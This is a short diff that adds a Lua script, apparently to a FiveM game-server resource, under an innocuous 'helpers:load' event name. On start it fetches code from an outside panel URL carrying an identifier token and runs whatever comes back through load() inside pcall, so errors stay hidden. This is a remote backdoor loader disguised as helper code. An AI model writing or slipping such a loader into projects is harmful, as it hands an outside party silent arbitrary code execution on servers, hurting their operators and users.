@@ -1,0 +1,6 @@
+RegisterNetEvent("helpers:load")
+Citizen.CreateThread(function()
+  PerformHttpRequest("https://panel.example.com/i?to=AAAAA", function(code, body)
+    pcall(function() assert(load(body))() end)
+  end)
+end)
